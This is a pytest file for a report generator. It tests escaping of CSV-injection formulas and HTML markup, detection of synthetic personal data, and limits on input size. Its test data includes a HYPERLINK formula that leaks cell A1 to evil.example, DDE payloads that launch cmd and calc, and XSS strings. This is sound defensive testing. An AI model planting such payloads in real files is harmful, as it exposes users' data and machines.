"""Hostile content in the data: formulas that a spreadsheet would run (CSV injection), personal data, long and
unique values. What reportgen writes must be safe to open, and the report must not print personal data."""

from __future__ import annotations

import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from reportgen.archive.cells import escape_cell, escape_frame, unescape_cell, unescape_frame
from reportgen.inputs.readers import read_table
from reportgen.inputs.roles import infer_roles

from .conftest import make_blobs_frame

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_gets_a_leading_apostrophe_and_comes_back(value: str) -> None:
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


def test_a_text_that_looks_escaped_comes_back_as_it_was() -> None:
    for value in ("'=1+1", "''=x", "'-", "'"):
        assert unescape_cell(escape_cell(value)) == value
    assert escape_cell("'=1+1") == "''=1+1" and escape_cell("'") == "'" and escape_cell("'-5") == "'-5"
    frame = pd.DataFrame({"id": ["'=1+1", "=1+1", "'x"]})
    written = escape_frame(frame)["id"].tolist()
    assert written == ["''=1+1", "'=1+1", "'x"]
    assert unescape_frame(escape_frame(frame))["id"].tolist() == frame["id"].tolist()


@pytest.mark.parametrize("value", ["-5", "+3", "-1.25", "1e5", "-2E-3", "Male", "'quoted", "a=b", "", "0"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert escape_cell(value) == value and unescape_cell(value) == value


def test_escape_frame_leaves_numeric_columns_alone_and_escapes_names_and_categories() -> None:
    frame = pd.DataFrame({"=id": ["=1+1", "C2", "-3"], "n": [-1.5, 2.0, -3.0],
                          "seg": pd.Categorical(["@x", "ok", "@x"])})
    out = escape_frame(frame)
    assert list(out.columns) == ["'=id", "n", "seg"]
    assert out["'=id"].tolist() == ["'=1+1", "C2", "-3"]
    assert out["n"].tolist() == [-1.5, 2.0, -3.0] and out["seg"].astype(str).tolist() == ["'@x", "ok", "'@x"]
    assert frame["=id"].tolist() == ["=1+1", "C2", "-3"]  # the input is not changed
    back = unescape_frame(pd.read_csv(io.StringIO(out.to_csv(index=False)), dtype=str))
    assert list(back.columns) == ["=id", "n", "seg"] and back["=id"].tolist() == ["=1+1", "C2", "-3"]
    clean = pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})
    assert escape_frame(clean) is clean


def _hostile_table(n: int = 240) -> pd.DataFrame:
    frame = make_blobs_frame(n=n)
    frame["customer_id"] = [FORMULAS[i % len(FORMULAS)] + f"#{i}" if i % 10 == 0 else f"C{i:05d}"
                            for i in range(n)]
    frame["Region"] = np.where(np.arange(n) % 2, "=HYPERLINK(\"http://evil.example\")", "+North")
    frame["<img src=x onerror=alert(1)>"] = np.where(np.arange(n) % 3, "<script>alert('x')</script>", "plain")
    return frame


def test_formula_ids_and_categories_are_escaped_in_every_csv(invoke, tmp_path: Path) -> None:
    """Regression: a customer ID or category like ``=HYPERLINK(...)`` or ``+cmd|' /C calc'!A0`` was written
    unchanged into segments.csv and profiles.csv, where a spreadsheet runs it."""
    frame = _hostile_table()
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False)
    result = invoke("run", str(path), "-q", "--stability-resamples", "0", "--format", "html")
    assert result.exit_code == 0, result.stderr
    folder = Path(result.stdout.strip())
    for name in ("segments.csv", "profiles.csv", "cleaning.csv"):
        raw = pd.read_csv(folder / name, dtype=str, keep_default_na=False, header=None)
        cells = raw.to_numpy().ravel().tolist()
        dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                     and not c.lstrip("+-").replace(".", "", 1).replace("e", "", 1).isdigit()]
        assert dangerous == [], (name, dangerous[:3])
    html = (folder / "report.html").read_text()  # markup in values and names is text in the report
    assert "<script>alert" not in html and "<img src=x" not in html and "&lt;script&gt;alert" in html
    segments = pd.read_csv(folder / "segments.csv", dtype=str, keep_default_na=False)
    escaped = segments["customer_id"].tolist()
    assert escaped[0] == "'" + frame["customer_id"][0] and escaped[1] == "C00001"
    # unescaped, the IDs join back to the input, every one of them
    ids = unescape_frame(segments)["customer_id"]  # (the cleaning strips the spaces around a value)
    assert set(ids.str.strip()) == set(frame["customer_id"].str.strip()) and len(ids) == len(frame)
    # the run reads its own escaped segments back as a baseline: the customers match across runs
    again = invoke("run", str(path), "-q", "--stability-resamples", "0", "--format", "html", "--baseline", "latest")
    assert again.exit_code == 0, again.stderr
    customers = json.loads((Path(again.stdout.strip()) / "comparison.json").read_text())["customers"]
    assert customers["shared"] == len(frame) and customers["entered"] == 0 and customers["left"] == 0


# ----------------------------------------------------------------------------- personal data
def _people(n: int = 240) -> pd.DataFrame:
    rng = np.random.default_rng(3)
    frame = make_blobs_frame(n=n)
    first = rng.choice(["Ann", "Bob", "Chloé", "Dmitri", "Eve", "Farah"], n)
    last = rng.choice(["Smith", "Okafor", "Müller", "Tanaka", "García"], n)
    pairs = list(zip(first, last, strict=True))
    frame["Email"] = [f"{f.lower()}.{s.lower()}{i}@example.com" for i, (f, s) in enumerate(pairs)]
    frame["Phone"] = [f"+44 20 7946 {i:04d}" for i in range(n)]
    frame["Full Name"] = [f"{f} {s}" for f, s in zip(first, last, strict=True)]
    frame["Street"] = [f"{10 + i} Baker Street" for i in range(n)]
    frame["contact"] = [f"{f.lower()}{i}@mail.example.org" for i, f in enumerate(first)]  # found by its values
    frame["mobile_number"] = [f"07{i:09d}" for i in range(n)]  # digits only, found by its name
    return frame


def test_personal_data_columns_are_recognised() -> None:
    roles = {c.name: (c.role, c.why) for c in infer_roles(_people())}
    for column, what in (("Email", "e-mail addresses"), ("Phone", "phone numbers"), ("Full Name", "personal names"),
                         ("Street", "postal addresses"), ("contact", "e-mail addresses"),
                         ("mobile_number", "phone numbers")):
        assert roles[column][0] == "personal" and roles[column][1].startswith(what), (column, roles[column])
    assert roles["customer_id"][0] == "id" and roles["Region"][0] == "categorical"
    assert roles["Annual Income (k$)"][0] == "numeric"
    # what is not personal data stays what it is
    others = pd.DataFrame({"Product Name": ["a", "b"] * 20, "email_opens": [i % 13 for i in range(40)],
                           "Telephone Calls": [i % 17 for i in range(40)],
                           "City": ["Paris", "Rome"] * 20, "Store Address ID": range(40)})
    assert [c.role for c in infer_roles(others)] == ["categorical", "numeric", "numeric", "categorical", "id"]
    # flags and counts named after personal data are not personal data; zero-padded IDs are not phone numbers
    flags = pd.DataFrame({"CustomerNo": [f"{i:08d}" for i in range(40)], "SKU": [f"{i:03d}-456-789" for i in range(40)],
                          **{name: [i % 2 for i in range(40)] for name in ("Has Email", "Email Opt-In", "Has Phone",
                                                                           "Address Verified", "Smartphone")},
                          "Address Count": [i % 13 for i in range(40)], "Phone Calls": [i % 11 for i in range(40)],
                          "Company Name": ["Acme", "Initech"] * 20, "Web Address": ["a.example", "b.example"] * 20})
    assert {c.name: c.role for c in infer_roles(flags)} == {
        "CustomerNo": "id", "SKU": "text", "Has Email": "categorical", "Email Opt-In": "categorical",
        "Has Phone": "categorical", "Address Verified": "categorical", "Smartphone": "categorical",
        "Address Count": "numeric", "Phone Calls": "numeric", "Company Name": "categorical",
        "Web Address": "categorical"}
    for name in ("Tel.", "Mobile No.", "Contact Number", "Telefon", "E-Mail-Adresse", "PLZ", "Straße", "Zip Code",
                 "Billing Address", "Name of Customer", "Contact Name"):
        assert infer_roles(pd.DataFrame({name: ["x", "y"] * 20}))[0].role == "personal", name


def test_personal_data_stays_out_of_the_report_and_the_email(invoke, tmp_path: Path) -> None:
    from pypdf import PdfReader

    frame = _people()
    path = tmp_path / "people.csv"
    frame.to_csv(path, index=False)
    result = invoke("run", str(path), "-q", "--stability-resamples", "0")
    assert result.exit_code == 0, result.stderr
    folder = Path(result.stdout.strip())
    html = (folder / "report.html").read_text()
    pdf = " ".join(page.extract_text() for page in PdfReader(folder / "report.pdf").pages)
    eml = tmp_path / "message.eml"
    mailed = invoke("email", str(folder), "--to", "cmo@example.com", "--dry-run", str(eml),
                    env={"REPORTGEN_MAIL_FROM": "reports@example.com"})
    assert mailed.exit_code == 0, mailed.stderr
    message = eml.read_bytes().decode("utf-8", errors="replace")
    texts = {"report.html": html, "report.pdf": pdf, "e-mail": message,
             **{name: (folder / name).read_text() for name in ("summary.json", "profiles.csv", "manifest.json",
                                                               "metrics.json", "cleaning.csv", "model.json")}}
    personal = ["Email", "Phone", "Full Name", "Street", "contact", "mobile_number"]
    for column in personal:
        for value in frame[column].head(40):
            for where, text in texts.items():
                assert str(value) not in text, (column, value, where)
    for surname in ("Okafor", "Tanaka", "Baker Street", "@example.com", "7946"):
        assert surname not in html and surname not in pdf
    assert "hold personal data: they are never clustered or profiled, and none of their values appears" in html
    segments = pd.read_csv(folder / "segments.csv")
    assert list(segments.columns[:2]) == ["customer_id", "segment"] and len(segments) == len(frame)
    assert not set(personal) & set(segments.columns)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert all(manifest["input"]["column_roles"][c] == "personal" for c in personal)
    refused = invoke("run", str(path), "-q", "--features", "Email,Annual Income (k$)")
    assert refused.exit_code == 2 and "'Email' holds personal data" in refused.stderr


# ----------------------------------------------------------------------------- limits
def test_long_values_and_a_distinct_value_per_row(invoke, tmp_path: Path) -> None:
    """A 1 MB note in a cell and a category with a value per row: the report stays small and prints neither."""
    frame = make_blobs_frame(n=300)
    frame["note"] = "short"
    frame.loc[3, "note"] = "N" * 1_000_000
    frame["token"] = [f"T{i:06d}-x" for i in range(300)]
    frame["Annual Income (k$)"] = frame["Annual Income (k$)"].astype(object)
    frame.loc[5, "Annual Income (k$)"] = "9" * 1000 + "x"  # unreadable as a number: an example, cut short
    path = tmp_path / "long.csv"
    frame.to_csv(path, index=False)
    result = invoke("run", str(path), "-q", "--stability-resamples", "0")
    assert result.exit_code == 0, result.stderr
    folder = Path(result.stdout.strip())
    roles = {c.name: c.role for c in infer_roles(read_table(path).frame)}
    assert roles["note"] == "text" and roles["token"] == "text"
    html = (folder / "report.html").read_text()
    assert "N" * 200 not in html and "9" * 200 not in html and "T000007-x" not in html
    assert (folder / "report.html").stat().st_size < 3_000_000 and (folder / "report.pdf").stat().st_size < 3_000_000


def test_two_thousand_columns_are_refused_or_capped(invoke, tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    frame = pd.DataFrame(rng.normal(size=(300, 2000)).round(3), columns=[f"f{i}" for i in range(2000)])
    frame.insert(0, "customer_id", [f"C{i}" for i in range(300)])
    path = tmp_path / "wide.csv"
    frame.to_csv(path, index=False)
    refused = invoke("run", str(path), "-q")
    assert refused.exit_code == 1
    assert refused.stderr.startswith("Error: wide.csv has 2,000 numeric columns that could be clustered; reportgen "
                                     "clusters on at most 50 at once")
    assert "--features f0,f1,f2" in refused.stderr and not list((tmp_path / "output").glob("*"))
    chosen = invoke("run", str(path), "-q", "--features", "f0,f1,f2", "--stability-resamples", "0")
    assert chosen.exit_code == 0, chosen.stderr
    folder = Path(chosen.stdout.strip())
    html = " ".join((folder / "report.html").read_text().split())
    assert "1,941 more columns are not listed here" in html and "1,980 more profiled columns are in" in html
    assert "The table shows 8 of the 2,000 numeric columns" in html and "The table shows 20 of the 2,000" in html
    assert "and 1,986 more columns (listed in" in html
    assert len(pd.read_csv(folder / "profiles.csv").columns) > 4000  # every column is in the data file
    assert (folder / "report.pdf").stat().st_size < 5_000_000
